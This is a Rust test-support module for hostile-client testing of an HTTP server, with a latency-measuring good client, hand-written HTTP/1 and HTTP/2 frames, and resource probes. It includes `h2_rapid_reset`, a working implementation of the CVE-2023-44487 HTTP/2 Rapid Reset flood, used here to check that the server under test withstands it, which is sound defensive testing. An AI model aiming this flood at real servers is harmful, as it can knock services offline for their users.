//! Raw wire tools for hostile-client tests: a well-behaved client that
//! measures its latency while an attack runs, hand-written HTTP/1 and
//! HTTP/2 frames (so a test can send what no real client library would),
//! and the test process's own RSS and file descriptors.

use std::future::Future;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Empty};
use hyper_util::rt::TokioIo;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// How long one good request may take, retries included: a liveness
/// bound, not a latency target.
pub const GOOD_DEADLINE: Duration = Duration::from_secs(5);

/// One `GET /` on a fresh connection, which is closed afterwards (so it
/// never lingers in the node's connection gauge).
pub async fn good_get(addr: SocketAddr, host: &str) -> Result<(u16, String), String> {
    let tcp = TcpStream::connect(addr)
        .await
        .map_err(|e| format!("connect: {e}"))?;
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tcp))
        .await
        .map_err(|e| format!("handshake: {e}"))?;
    tokio::spawn(conn);
    let req = Request::get("/")
        .header("host", host)
        .body(Empty::<Bytes>::new())
        .unwrap();
    let resp = sender
        .send_request(req)
        .await
        .map_err(|e| format!("request: {e}"))?;
    let status = resp.status().as_u16();
    let body = resp
        .into_body()
        .collect()
        .await
        .map_err(|e| format!("body: {e}"))?
        .to_bytes();
    Ok((status, String::from_utf8_lossy(&body).into_owned()))
}

/// What the good client saw during an attack.
#[derive(Debug, Default)]
pub struct Latencies {
    pub samples: Vec<Duration>,
    /// Attempts that failed (refused or reset) and were retried.
    pub retries: usize,
}

impl Latencies {
    fn percentile(&self, p: f64) -> Duration {
        let mut sorted = self.samples.clone();
        sorted.sort();
        let i = ((sorted.len() as f64 - 1.0) * p).round() as usize;
        sorted.get(i).copied().unwrap_or_default()
    }

    /// Prints `label: n, p50, p99, max, retries` to stderr.
    pub fn report(&self, label: &str) {
        eprintln!(
            "[{label}] good client: {} requests, p50 {:?}, p99 {:?}, max {:?}, retries {}",
            self.samples.len(),
            self.percentile(0.5),
            self.percentile(0.99),
            self.percentile(1.0),
            self.retries
        );
    }
}

/// Runs `attack` while a good client asks `host` for `/` in a loop on
/// `addr`; each of its requests (retries after a refused connection
/// included) must get `200 expect` within [`GOOD_DEADLINE`]. Keeps going
/// until the attack is over, and asks at least once.
pub async fn while_attacking<F: Future>(
    addr: SocketAddr,
    host: &str,
    expect: &str,
    attack: F,
) -> (F::Output, Latencies) {
    let done = AtomicBool::new(false);
    let (out, latencies) = tokio::join!(
        async {
            let out = attack.await;
            done.store(true, Ordering::SeqCst);
            out
        },
        async {
            let mut seen = Latencies::default();
            loop {
                let started = Instant::now();
                loop {
                    match tokio::time::timeout(GOOD_DEADLINE, good_get(addr, host)).await {
                        Ok(Ok((status, body))) => {
                            assert_eq!((status, body.as_str()), (200, expect));
                            break;
                        }
                        Ok(Err(e)) => {
                            seen.retries += 1;
                            assert!(
                                started.elapsed() < GOOD_DEADLINE,
                                "the good client was not served within {GOOD_DEADLINE:?}: {e}"
                            );
                            tokio::time::sleep(Duration::from_millis(20)).await;
                        }
                        Err(_) => panic!("a good request hung for {GOOD_DEADLINE:?}"),
                    }
                }
                seen.samples.push(started.elapsed());
                if done.load(Ordering::SeqCst) {
                    break seen;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    );
    (out, latencies)
}

/// Writes `bytes`, then reads until the node closes the connection or
/// `wait` passes; returns what came back (lossy UTF-8). A reset counts as
/// the end of the answer.
pub async fn exchange(addr: SocketAddr, bytes: &[u8], wait: Duration) -> String {
    let mut tcp = TcpStream::connect(addr).await.unwrap();
    // The node may answer and close before it read everything we send.
    let _ = tcp.write_all(bytes).await;
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let deadline = tokio::time::Instant::now() + wait;
    loop {
        match tokio::time::timeout_at(deadline, tcp.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break,
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
            Err(_) => panic!(
                "the node neither answered in full nor closed within {wait:?}; got {:?}",
                String::from_utf8_lossy(&out)
            ),
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Resident set size of this process (the node runs in it), in KiB.
pub fn rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

/// File descriptors this process has open.
pub fn open_fds() -> usize {
    std::fs::read_dir("/proc/self/fd").unwrap().count()
}

/// The soft and hard "Max open files" limits of this process.
pub fn nofile_limits() -> (u64, u64) {
    let limits = std::fs::read_to_string("/proc/self/limits").unwrap();
    let line = limits
        .lines()
        .find(|l| l.starts_with("Max open files"))
        .unwrap();
    let mut fields = line
        .trim_start_matches("Max open files")
        .split_whitespace()
        .map(|v| v.parse().unwrap_or(u64::MAX));
    (fields.next().unwrap(), fields.next().unwrap())
}

// ---- HTTP/2 frames, written by hand ----

pub const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const HEADERS: u8 = 0x1;
pub const RST_STREAM: u8 = 0x3;
pub const SETTINGS: u8 = 0x4;
pub const GOAWAY: u8 = 0x7;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;
pub const ACK: u8 = 0x1;
pub const CANCEL: u32 = 0x8;
pub const REFUSED_STREAM: u32 = 0x7;
pub const SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;

/// One frame as read off the wire.
#[derive(Debug)]
pub struct Frame {
    pub kind: u8,
    pub flags: u8,
    pub payload: Vec<u8>,
}

impl Frame {
    /// The error code of a RST_STREAM or GOAWAY frame.
    pub fn error_code(&self) -> u32 {
        let at = if self.kind == GOAWAY { 4 } else { 0 };
        u32::from_be_bytes(self.payload[at..at + 4].try_into().unwrap())
    }
}

/// Appends one frame to `out`.
pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// A complete GET request's HEADERS frame. HPACK without a table:
/// indexed `:method GET`, `:scheme http`, `:path /`, then `:authority` as a
/// literal without indexing on static name 1.
pub fn get_headers(out: &mut Vec<u8>, stream: u32, authority: &str) {
    let mut block = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    block.extend_from_slice(authority.as_bytes());
    frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
}

/// Appends a RST_STREAM with `code`.
pub fn rst_stream(out: &mut Vec<u8>, stream: u32, code: u32) {
    frame(out, RST_STREAM, 0, stream, &code.to_be_bytes());
}

/// Reads one frame; `None` once the connection is closed or reset.
pub async fn read_frame<R: AsyncReadExt + Unpin>(r: &mut R) -> Option<Frame> {
    let mut head = [0u8; 9];
    r.read_exact(&mut head).await.ok()?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let mut payload = vec![0u8; len];
    r.read_exact(&mut payload).await.ok()?;
    Some(Frame {
        kind: head[3],
        flags: head[4],
        payload,
    })
}

/// Opens an h2c (prior knowledge) connection: sends the preface and empty
/// SETTINGS, waits for the node's SETTINGS, acknowledges them. Returns
/// the stream and the node's settings as (id, value) pairs.
pub async fn h2c_connect(addr: SocketAddr) -> (TcpStream, Vec<(u16, u32)>) {
    let mut tcp = TcpStream::connect(addr).await.unwrap();
    let mut hello = H2_PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    tcp.write_all(&hello).await.unwrap();
    let settings = loop {
        let f = tokio::time::timeout(Duration::from_secs(10), read_frame(&mut tcp))
            .await
            .expect("the node sends its SETTINGS")
            .expect("the connection stays open");
        if f.kind == SETTINGS && f.flags & ACK == 0 {
            break f
                .payload
                .chunks(6)
                .map(|c| {
                    (
                        u16::from_be_bytes([c[0], c[1]]),
                        u32::from_be_bytes([c[2], c[3], c[4], c[5]]),
                    )
                })
                .collect::<Vec<_>>();
        }
    };
    let mut ack = Vec::new();
    frame(&mut ack, SETTINGS, ACK, 0, &[]);
    tcp.write_all(&ack).await.unwrap();
    (tcp, settings)
}

/// What an h2 client saw of the node's answers.
#[derive(Debug, Default)]
pub struct H2Seen {
    /// Streams opened.
    pub sent: u32,
    /// Response HEADERS frames.
    pub responses: u32,
    /// Streams refused with RST_STREAM(REFUSED_STREAM).
    pub refused: u32,
    /// The GOAWAY error code, if the node sent one.
    pub goaway: Option<u32>,
}

impl H2Seen {
    pub fn record(&mut self, f: &Frame) {
        match f.kind {
            HEADERS => self.responses += 1,
            RST_STREAM if f.error_code() == REFUSED_STREAM => self.refused += 1,
            GOAWAY => self.goaway = Some(f.error_code()),
            _ => {}
        }
    }
}

/// CVE-2023-44487 from one connection: opens `streams` GET streams to
/// `host` and cancels each at once, 100 per write, until done or the node
/// closes; then half-closes and reads until the node closes (30 s at most).
pub async fn h2_rapid_reset(addr: SocketAddr, host: &str, streams: u32) -> H2Seen {
    let (tcp, settings) = h2c_connect(addr).await;
    assert!(
        settings.contains(&(SETTINGS_MAX_CONCURRENT_STREAMS, 100)),
        "{settings:?}"
    );
    let (mut rd, mut wr) = tcp.into_split();
    let reader = tokio::spawn(async move {
        let mut seen = H2Seen::default();
        loop {
            let frame = tokio::time::timeout(Duration::from_secs(30), read_frame(&mut rd))
                .await
                .expect("the node answers or closes an h2 flood within 30 s");
            let Some(f) = frame else { break seen };
            seen.record(&f);
        }
    });
    let mut sent = 0;
    while sent < streams {
        let batch = (streams - sent).min(100);
        let mut buf = Vec::new();
        for i in 0..batch {
            let id = 1 + 2 * (sent + i);
            get_headers(&mut buf, id, host);
            rst_stream(&mut buf, id, CANCEL);
        }
        if wr.write_all(&buf).await.is_err() {
            break;
        }
        sent += batch;
    }
    let _ = wr.shutdown().await;
    let seen = reader.await.unwrap();
    H2Seen { sent, ..seen }
}
